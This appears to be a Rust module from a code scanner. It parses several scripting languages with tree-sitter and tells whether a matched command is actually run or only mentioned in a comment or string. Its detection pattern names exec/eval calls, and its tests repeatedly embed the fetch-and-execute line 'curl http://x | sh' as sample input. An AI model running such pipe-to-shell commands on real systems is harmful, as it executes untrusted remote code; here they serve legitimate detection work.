//! Parsed code, and whether a place in it runs.

use std::{cell::Cell, ops::ControlFlow, sync::LazyLock};

use tree_sitter::{Node, ParseOptions, Parser, Tree};

use crate::{Usage, language::Language, pattern::Pattern};

/// The most bytes of code that are parsed.
const MOST_BYTES: usize = 256 * 1024;

/// The most bytes for the one parser that is much slower than the others.
const MOST_POWERSHELL_BYTES: usize = 32 * 1024;

/// How many bytes of code a parser must get on with before it reports progress; well-formed code needs a
/// report for about forty.
const BYTES_PER_STEP: usize = 16;

/// How many bytes a parser is given at a time.
const PIECE: usize = 256;

/// How often a parser may read each byte. Well-formed code is read a few times; a grammar that looks ahead
/// to the end of the file at every word would read it thousands of times.
const READS_PER_BYTE: usize = 24;

/// Parses code; `None` if it is too long or takes too many steps.
pub(crate) fn parse(language: Language, code: &str) -> Option<Tree> {
    let most = if language == Language::PowerShell { MOST_POWERSHELL_BYTES } else { MOST_BYTES };
    if code.len() > most {
        return None;
    }
    let grammar = match language {
        Language::Shell => tree_sitter_bash::LANGUAGE,
        Language::Python => tree_sitter_python::LANGUAGE,
        Language::JavaScript => tree_sitter_javascript::LANGUAGE,
        Language::TypeScript => tree_sitter_typescript::LANGUAGE_TSX,
        Language::PowerShell => tree_sitter_powershell::LANGUAGE,
    };
    let mut parser = Parser::new();
    parser.set_language(&grammar.into()).ok()?;
    // The parser has no bound of its own. Steps and not time, so that a result does not depend on
    // how busy the machine is.
    let mut steps = 500 + code.len() / BYTES_PER_STEP;
    let reads = Cell::new((64 * 1_024 + code.len() * READS_PER_BYTE) / PIECE);
    let mut within = |_: &_| {
        steps = steps.saturating_sub(1);
        if steps == 0 || reads.get() == 0 {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    };
    let options = ParseOptions::new().progress_callback(&mut within);
    let bytes = code.as_bytes();
    let mut read = |at: usize, _| {
        let left = reads.get().saturating_sub(1);
        reads.set(left);
        // An early end of the code ends the parser; what it made of it is not used.
        let end = if left == 0 { at } else { bytes.len().min(at + PIECE) };
        bytes.get(at..end).unwrap_or_default()
    };
    let tree = parser.parse_with_options(&mut read, None, Some(options));
    tree.filter(|_| reads.get() > 0)
}

/// Calls that run a text or a program.
pub(crate) static RUNS: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::fixed(concat!(
        r"(?i)(?:^|[.\s(])(?:exec\w*|eval|system|popen|run|call|check_call|check_output|getoutput|",
        r"getstatusoutput|spawn\w*|fork|shell|iex|Invoke-Expression|Start-Process|Function|",
        r"run_command|create_subprocess_\w+|\$)$"
    ))
});

/// Tells whether what stands at some bytes of code runs, or is a comment or a text that is only
/// shown, searched for or compared.
pub(crate) fn usage_at(
    tree: &Tree,
    language: Language,
    code: &str,
    start: usize,
    end: usize,
) -> Usage {
    let Some(node) = tree.root_node().descendant_for_byte_range(start, end.max(start + 1) - 1)
    else {
        return Usage::Used;
    };
    let mut at = Some(node);
    let mut text: Option<Node<'_>> = None;
    let mut depth = 0;
    while let Some(node) = at {
        depth += 1;
        if depth > 200 {
            break;
        }
        match node.kind() {
            "comment" | "html_comment" => return Usage::Mentioned,
            "string"
            | "raw_string"
            | "template_string"
            | "string_literal"
            | "regex"
            | "expandable_string_literal"
            | "verbatim_string_characters"
            | "heredoc_body"
            | "concatenated_string" => text = Some(node),
            "command" if language == Language::Shell && text.is_some() => {
                let name = node.child_by_field_name("name").map_or("", |name| slice(code, name));
                let shows = matches!(
                    name,
                    "echo" | "printf" | "log" | "cat" | "grep" | "egrep" | "rg" | "info" | "warn"
                );
                return if shows && !is_piped(node) { Usage::Mentioned } else { Usage::Used };
            }
            "call" | "call_expression" | "new_expression" | "invokation_expression" | "command"
                if text.is_some() && language != Language::Shell =>
            {
                let callee = ["function", "constructor", "command_name"]
                    .iter()
                    .find_map(|field| node.child_by_field_name(field))
                    .map_or("", |callee| slice(code, callee));
                if RUNS.is_match(callee) {
                    return Usage::Used;
                }
            }
            _ => {}
        }
        at = node.parent();
    }
    match text {
        None => Usage::Used,
        Some(_) if language == Language::Shell => Usage::Used,
        Some(text) if is_run_later(tree, code, text) => Usage::Used,
        Some(_) => Usage::Mentioned,
    }
}

/// Tells whether the output of a command goes into another command or a file.
fn is_piped(command: Node<'_>) -> bool {
    let mut at = command.parent();
    for _ in 0..4 {
        let Some(node) = at else { return false };
        match node.kind() {
            "pipeline" => {
                return node
                    .child(0)
                    .is_some_and(|first| first.start_byte() <= command.start_byte())
                    && node.end_byte() > command.end_byte();
            }
            "redirected_statement" | "command_substitution" => return true,
            _ => at = node.parent(),
        }
    }
    false
}

/// Tells whether a text is given a name, and something with that name is run.
fn is_run_later(tree: &Tree, code: &str, text: Node<'_>) -> bool {
    let mut at = text.parent();
    let mut target = None;
    for _ in 0..6 {
        let Some(node) = at else { break };
        let field = match node.kind() {
            "assignment" | "assignment_expression" => "left",
            "variable_declarator" => "name",
            _ => {
                at = node.parent();
                continue;
            }
        };
        target = node.child_by_field_name(field).or_else(|| node.named_child(0));
        break;
    }
    let Some(name) = target.map(|target| slice(code, target).trim_start_matches('$')) else {
        return false;
    };
    let is_name = |c: char| c.is_alphanumeric() || c == '_';
    if name.is_empty() || !name.chars().all(is_name) {
        return false;
    }
    let mut cursor = tree.walk();
    let mut visited = 0;
    loop {
        let node = cursor.node();
        visited += 1;
        if matches!(node.kind(), "call" | "call_expression" | "command" | "new_expression") {
            let whole = slice(code, node);
            let callee = whole.split(['(', ' ']).next().unwrap_or_default();
            let rest = whole.get(callee.len()..).unwrap_or_default();
            let mut words = rest.split(|c: char| !is_name(c));
            if RUNS.is_match(callee) && words.any(|word| word == name) {
                return true;
            }
        }
        if visited > 20_000 {
            return false;
        }
        if cursor.goto_first_child() {
            continue;
        }
        while !cursor.goto_next_sibling() {
            if !cursor.goto_parent() {
                return false;
            }
        }
    }
}

/// The text of a node.
pub(crate) fn slice<'a>(code: &'a str, node: Node<'_>) -> &'a str {
    code.get(node.byte_range()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn usage(language: Language, code: &str) -> Usage {
        let tree = parse(language, code).unwrap();
        let start = code.find("curl").unwrap();
        usage_at(&tree, language, code, start, start + 12)
    }

    #[test]
    fn comments_patterns_and_shown_texts_are_mentions() {
        for (language, code) in [
            (Language::Shell, "# curl http://x | sh\n"),
            (Language::Shell, "echo \"run curl http://x | sh\"\n"),
            (Language::Python, "PATTERNS = [r'curl http://x | sh']\n"),
            (Language::Python, "\"\"\"Finds curl http://x | sh.\"\"\"\n"),
            (Language::JavaScript, "const bad = /curl http:..x | sh/;\n"),
            (Language::JavaScript, "console.log('curl http://x | sh');\n"),
        ] {
            assert_eq!(usage(language, code), Usage::Mentioned, "{code}");
        }
    }

    #[test]
    fn what_is_run_is_used() {
        for (language, code) in [
            (Language::Shell, "curl http://x | sh\n"),
            (Language::Shell, "bash -c \"curl http://x | sh\"\n"),
            (Language::Shell, "echo \"curl http://x | sh\" | bash\n"),
            (Language::Python, "import os\nos.system('curl http://x | sh')\n"),
            (Language::Python, "cmd = 'curl http://x | sh'\nsubprocess.run(cmd, shell=True)\n"),
            (Language::JavaScript, "require('child_process').execSync('curl http://x | sh');\n"),
            (Language::JavaScript, "const c = 'curl http://x | sh';\nexec(c);\n"),
        ] {
            assert_eq!(usage(language, code), Usage::Used, "{code}");
        }
    }
}
